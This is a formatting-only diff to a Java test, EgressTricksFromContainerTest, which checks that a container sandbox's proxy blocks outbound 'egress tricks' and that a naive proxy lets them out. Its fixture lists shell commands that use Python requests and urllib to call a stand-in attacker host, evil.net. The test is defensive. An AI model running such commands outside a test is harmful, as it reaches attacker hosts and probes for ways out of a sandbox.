@@ -70,7 +70,9 @@ final class EgressTricksFromContainerTest {
             assertThat(lab.canaryConnections()).as(command.getValue()).isEqualTo(before);
           }
           assertThat(lab.dialled()).isEmpty();
-          assertThat(lab.attempts()).hasSizeGreaterThan(tricks.size()).noneMatch(EgressAttempt::allowed);
+          assertThat(lab.attempts())
+              .hasSizeGreaterThan(tricks.size())
+              .noneMatch(EgressAttempt::allowed);
           assertThat(play(sandbox, slot, List.of(TrickLab.allowed()))).containsExactly("REACHED");
         }
       }
@@ -83,10 +85,10 @@ final class EgressTricksFromContainerTest {
         tried, tried);
   }
 
-  private static void naiveProxyLetsAllOfThemOut(TrickLab lab, List<Trick> tricks) throws Exception {
+  private static void naiveProxyLetsAllOfThemOut(TrickLab lab, List<Trick> tricks)
+      throws Exception {
     try (TestEngine machine = TestEngine.open(0, List.of());
-        DockerSandbox sandbox =
-            machine.sandbox(machine.store(), lab.naive(Trick.Lacks.LIST))) {
+        DockerSandbox sandbox = machine.sandbox(machine.store(), lab.naive(Trick.Lacks.LIST))) {
       Slot slot = sandbox.claim(TestEngine.newRun());
       List<String> came = play(sandbox, slot, tricks);
       for (int i = 0; i < tricks.size(); i++) {
@@ -185,7 +187,8 @@ final class EgressTricksFromContainerTest {
             "python3 -c 'import requests; requests.get(\"https://evil.net/\", timeout=4, verify=False)'",
             "python3 -c 'import urllib.request; urllib.request.urlopen(\"http://evil.net/\", timeout=4)'");
     Map<String, String> commands = new LinkedHashMap<>();
-    lines.forEach(line -> commands.put("command " + commands.size(), "timeout 6 bash -c " + quoted(line)));
+    lines.forEach(
+        line -> commands.put("command " + commands.size(), "timeout 6 bash -c " + quoted(line)));
     return commands;
   }
 
